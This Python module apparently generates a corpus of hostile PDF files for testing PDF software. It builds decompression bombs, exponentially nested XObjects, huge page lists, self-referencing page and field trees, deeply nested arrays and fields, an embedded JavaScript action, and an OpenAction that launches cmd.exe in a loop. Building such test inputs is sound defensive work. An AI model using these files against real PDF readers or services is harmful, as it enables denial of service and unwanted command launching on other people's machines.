"""Makers of PDF files that attack."""

from __future__ import annotations

import zlib
from collections.abc import Callable

FONT = b"<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
TEXT = b"BT /F 12 Tf 72 700 Td (Social Security Number: ____________) Tj ET"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources " + FONT + b" /Contents 4 0 R %s>>"


def pdf(objects: dict[int, bytes]) -> bytes:
    """Return a PDF of those objects, the first of which is its catalog."""
    made, places = b"%PDF-1.7\n", {}
    for number, content in objects.items():
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%d 1\n%010d 00000 n \n" % (number, place) for number, place in places.items())
    size = max(objects) + 1
    ending = b"xref\n0 1\n0000000000 65535 f \n%strailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF"
    return made + ending % (table, size, len(made))


def stream(content: bytes, *, layers: int = 0, entries: bytes = b"") -> bytes:
    """Return a stream, deflated so many times."""
    for _ in range(layers):
        content = zlib.compress(content, 9)
    filters = b"/Filter [" + b" /FlateDecode" * layers + b"]" if layers else b""
    return b"<< %s %s /Length %d >>\nstream\n%s\nendstream" % (entries, filters, len(content), content)


def form(
    contents: bytes = b"", page: bytes = b"", catalog: bytes = b"", others: dict[int, bytes] | None = None
) -> bytes:
    """Return a one-page PDF that asks for a number, with further entries and objects."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: PAGE % page,
            4: contents or stream(TEXT),
        }
        | (others or {})
    )


def laughing_drawings(levels: int = 8, width: int = 10) -> bytes:
    """Return a page whose drawing draws ten drawings, each of which draws ten, and so on."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"}
    objects[3] = PAGE.replace(FONT, b"<< /XObject << /X 5 0 R >> >>") % b""
    objects[4] = stream(b"/X Do")
    for level in range(levels):
        below = b"/Resources << /XObject << /X %d 0 R >> >>" % (6 + level) if level < levels - 1 else b""
        drawn = b"/X Do " * width if level < levels - 1 else b"0 0 1 1 re f"
        objects[5 + level] = stream(drawn, entries=b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + below)
    return pdf(objects)


def many_pages(count: int) -> bytes:
    """Return a PDF whose one page is listed so many times."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * count, count),
            3: PAGE % b"",
            4: stream(TEXT),
        }
    )


def nested_fields(depth: int) -> bytes:
    """Return a form with a field in a field in a field."""
    fields = {
        10 + level: b"<< /T (f) /FT /Tx /Parent %d 0 R /Kids [%d 0 R] >>" % (9 + level, 11 + level)
        for level in range(depth)
    }
    fields[10 + depth] = b"<< /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    return form(catalog=b"/AcroForm << /Fields [10 0 R] >>", others=fields)


PDFS: dict[str, Callable[[], bytes]] = {
    "flate_bomb.pdf": lambda: form(stream(bytes(100_000_000), layers=1)),
    "flate2_bomb.pdf": lambda: form(stream(bytes(100_000_000), layers=2)),
    "tj_5M.pdf": lambda: form(stream(b"BT /F 9 Tf\n" + b"(a) Tj\n" * 5_000_000 + b"ET", layers=1)),
    "xobject_laughs_1e8.pdf": lambda: laughing_drawings(9),
    "pages_200k.pdf": lambda: many_pages(200_000),
    "nested_arrays_20k.pdf": lambda: form(page=b"/X " + b"[" * 20_000 + b"]" * 20_000),
    "page_self_loop.pdf": lambda: pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
            3: PAGE % b"",
            4: stream(TEXT),
        }
    ),
    "field_self_loop.pdf": lambda: form(
        page=b"/Annots [5 0 R]",
        catalog=b"/AcroForm << /Fields [5 0 R] >>",
        others={5: b"<< /Subtype /Widget /Rect [0 0 9 9] /T (f) /FT /Tx /Parent 5 0 R /Kids [5 0 R] >>"},
    ),
    "deep_fields_3000.pdf": lambda: nested_fields(3_000),
    "huge_mediabox.pdf": lambda: form().replace(b"[0 0 612 792]", b"[0 0 1e7 1e7]"),
    "action_loop.pdf": lambda: form(
        catalog=b"/OpenAction 5 0 R ", others={5: b"<< /S /Launch /F (cmd.exe) /Next [5 0 R 5 0 R] >>"}
    ),
}
"""Every attack by PDF by its file name."""
